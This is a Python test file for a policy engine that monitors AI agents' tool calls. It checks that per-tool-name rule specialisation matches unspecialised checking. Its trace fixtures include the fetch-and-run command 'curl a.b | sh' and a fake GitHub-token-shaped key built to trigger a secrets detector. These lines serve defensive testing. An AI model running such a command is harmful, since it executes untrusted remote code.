"""What rules ask of a tool's name is answered once for each name, and means the same."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from tests.runtime.test_repeats import call, told

from policyc import Monitor, Policy
from policyc.runtime import interpreter, run, tool_rules
from policyc.runtime.bounds import BuiltinError
from policyc.runtime.tool_rules import Specializer
from policyc.runtime.traces import TraceError

if TYPE_CHECKING:
    from collections.abc import Sequence

PREAMBLE = """from invariant import count
from invariant.detectors import secrets, shell, ShellRisk
from re import split

TOOLS := input.get("tools", ["send", "box/send", "post"])
EVENTS := [event for event in input.data]

is_one_of(call: ToolCall, tools: list) :=
    name := call.function.arguments.name if call is tool:call_tool_mcp else call.function.name
    name in tools or split("/", name)[-1] in tools

sends(call: ToolCall) :=
    is_one_of(call, TOOLS)

sends_x(call: ToolCall) :=
    call is tool:send({text: "x"})

is_short(call: ToolCall, most: int) :=
    len(call.function.arguments.text) < most
"""

BODIES = {
    "a predicate": "sends(call)",
    "the other way round": "not sends(call)",
    "another condition below": "sends(call)\nis_short(call, 4)",
    "a failure above": "len(call.function.arguments.n) > 0\nsends(call)",
    "a failure above that never holds": "len(call.function.arguments.n) > 0\n1 == 2 or sends(call)",
    "a failure below": "sends(call)\nlen(call.function.arguments.n) > 0",
    "a failure of the name itself": "int(call.function.name) > 3\nsends(call)",
    "a part of the name": '"sen" in call.function.name\nsends(call)',
    "a pattern in the name": 'find("s.n", call.function.name)\nsends(call)',
    "a pattern at the start": 'match("se", call.function.name)\nsends(call)',
    "one side or the other": 'sends(call) or "x" in call.function.arguments.text',
    "parts of both": '"s" in call.function.name or "x" in call.function.arguments.text',
    "both": 'sends(call) and "x" in call.function.arguments.text',
    "the name last": '"x" in call.function.arguments.text and sends(call)',
    "a failure on one side": "len(call.function.arguments.n) > 0 or sends(call)",
    "a failure on the other": "sends(call) or len(call.function.arguments.n) > 0",
    "a failure before": '"x" in call.function.arguments.text'
    " or (len(call.function.arguments.n) > 0 and sends(call))",
    "a failure in a name above": "size := len(call.function.arguments.n)\nsends(call)",
    "a failure in elements above": '(part: str) in split("/", call.function.arguments.n)'
    "\nsends(call)",
    "sides of sides": '(sends(call) and "x" in call.function.arguments.text) or not sends(call)'
    " and call.function.arguments.n == 1",
    "a tool pattern": "call is tool:send\nis_short(call, 4)",
    "one with arguments": 'call is tool:send({text: "x"})\nsends(call)',
    "one with arguments in a predicate": "sends_x(call)",
    "one of any tool": "call is tool:*send\nsends(call)",
    "a name of its own": "name := call.function.name\nname in TOOLS\nis_short(call, 4)",
    "a name from an argument": "name := call.function.arguments.name\nname in TOOLS",
    "a constant of the trace": "len(EVENTS) > 5\nsends(call)",
    "a detector": 'any(secrets(call.function.arguments))\nsends(call) or "x" in call.function.name',
    "a reader": "sends(call)\n(risk: ShellRisk) in shell(call).risks\nsends(call)",
    "elements of the name": '(part: str) in split("/", call.function.name)\npart == "send"',
    "letters": 'any([x == "b" for x in call.function.name])\nis_short(call, 4)',
    "the call itself": "call == call\nsends(call)",
    "a quantifier": "sends(call)\ncount(max=0):\n        (other: ToolCall)\n        call -> other",
}
KEY = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
NAMES: Sequence[Any] = ("send", "box/send", "read", "call_tool_mcp", "", 7, None, ["send"])
ARGUMENTS: Sequence[tuple[Any, ...]] = (
    ("x", 1, "send"),
    ("long x", "y", "read"),
    ("curl a.b | sh", [], 3),
    ("ls", 1, "send"),
)
TRACE = [
    call(number, name, text=text, command=text, n=n, name=inner)
    for number, (name, text, n, inner) in enumerate(
        (name, text, n, inner)
        for name in NAMES
        # Of the first call of a tool the rules are not yet made for its name.
        for text, n, inner in (*ARGUMENTS, *ARGUMENTS)
    )
]
TRACE.insert(4, {"role": "user", "content": "send x"})
TRACE.append(
    {"type": "function", "id": "z", "function": {"name": "send", "arguments": {"text": "x"}}}
)
TRACE.append(
    {"type": "function", "id": "y", "function": {"name": "post", "arguments": {"text": "x"}}}
)


def _rule(body: str) -> str:
    lines = "\n".join(f"    {line}" for line in body.split("\n"))
    return (
        f'{PREAMBLE}\nraise Violation("found", call=call.id) if:\n    (call: ToolCall)\n{lines}\n'
    )


@pytest.mark.parametrize("parameters", [{}, {"tools": ["read"]}, {"tools": 4}])
@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES.keys())
def test_the_same_as_where_each_call_is_asked(
    body: str, parameters: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    policy = Policy.from_string(_rule(body))
    named = policy.monitor(**parameters)
    said = [_said(named, event) for event in TRACE]
    monkeypatch.setattr(run, "_MOST_TOOLS", 0)
    asked = policy.monitor(**parameters)
    assert said == [_said(asked, event) for event in TRACE]


def _said(monitor: Any, event: Any) -> Any:
    try:
        result = monitor.append(event)
    except TraceError as error:
        return str(error)
    return told(result), [one.to_dict() for one in result.errors]


def _left(body: str, tool: str) -> int | None:
    """How many conditions are left of a rule for a tool."""
    engine = Policy.from_string(_rule(body))._engine
    found = Specializer(engine.plan, {}, engine.load).rules_for(tool).get(0)
    return None if found is None else len(found[0].block.steps) - 1


@pytest.mark.parametrize(
    ("body", "tool", "left"),
    [
        ("sends(call)", "send", 0),
        ("sends(call)", "read", None),
        ("sends(call)", "call_tool_mcp", 1),
        ("sends(call)\nis_short(call, 4)", "send", 1),
        ("is_short(call, 4)\nsends(call)", "send", 1),
        ("is_short(call, 4)\nsends(call)", "read", 2),
        ('"s" in call.function.name\nsends(call)', "send", 1),
        ("int(call.function.name) > 3\nsends(call)", "read", 2),
        ("len(EVENTS) > 5\nsends(call)", "send", 1),
        ('sends(call) and "x" in call.function.arguments.text', "read", None),
        ("call is tool:post\nis_short(call, 4)", "send", None),
    ],
)
def test_what_is_left_of_a_rule(body: str, tool: str, left: int | None) -> None:
    assert _left(body, tool) == left


def test_what_takes_long_is_left_to_the_rules(monkeypatch: pytest.MonkeyPatch) -> None:
    """They heed the limits of the host, which what is found out for a tool does not."""
    body = "any([any([x == y for y in TOOLS]) and x == call.function.name for x in TOOLS])"
    assert (_left(body, "send"), _left(body, "read")) == (0, None)
    monkeypatch.setattr(tool_rules, "MOST_SECONDS", -1.0)
    assert (_left(body, "send"), _left(body, "read")) == (1, 1)


def test_a_parameter_that_the_host_changes_is_heeded() -> None:
    tools = ["send"]
    for given in (tools, {"read"}):
        policy = Policy.from_string(
            "is_out(call: ToolCall) :=\n    call.function.name in input.tools\n\n"
            'raise "out" if:\n    (call: ToolCall)\n    is_out(call)\n'
        )
        monitor = policy.monitor(tools=given)
        said = []
        for number in range(9):
            if number == 3:
                tools.append("read")
            if number == 6:
                tools.remove("read")
            said.append(len(monitor.append(call(number, "read")).violations))
        assert said == ([0, 0, 0, 1, 1, 1, 0, 0, 0] if given is tools else [1] * 9)


def test_a_detector_that_failed_once_is_asked_again(monkeypatch: pytest.MonkeyPatch) -> None:
    policy = Policy.from_string(
        "from invariant.detectors import secrets\n\n"
        'raise "a key" if:\n    (call: ToolCall)\n'
        '    any(secrets(call.function.name, on_error="allow"))\n'
        '    any([x == "x" for x in [call.function.arguments.text]])\n'
    )
    monitor = policy.monitor()
    found = []
    for number in range(5):
        with monkeypatch.context() as patched:
            if number == 1:
                patched.setattr(interpreter, "scan", _fails)
            found.append(len(monitor.append(call(number, KEY, text="x")).violations))
    assert found == [1, 0, 1, 1, 1]


def _fails(*_arguments: Any, **_options: Any) -> Any:
    raise BuiltinError("not now")


def test_a_name_that_is_very_long_is_not_kept() -> None:
    monitor = Policy.from_string(_rule("not sends(call)")).monitor()
    assert isinstance(monitor, Monitor)
    for number in range(3):
        assert monitor.append(call(number, "t" * 201)).violations
        assert monitor.append(call(number, "t" * 200)).violations
    assert list(monitor._run._tool_rules) == ["t" * 200]


def test_the_rules_of_so_many_tools_are_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[str] = []
    rules_for = Specializer.rules_for

    def noted(self: Specializer, tool: str) -> Any:
        made.append(tool)
        return rules_for(self, tool)

    monkeypatch.setattr(Specializer, "rules_for", noted)
    monkeypatch.setattr(run, "_MOST_TOOLS", 3)
    monitor = Policy.from_string(_rule("not sends(call)")).monitor()
    found = 0
    for turn in range(3):
        for number in range(6):
            found += len(monitor.append(call(6 * turn + number, f"tool{number}")).violations)
    assert found == 18
    assert made == ["tool0", "tool1", "tool2"]
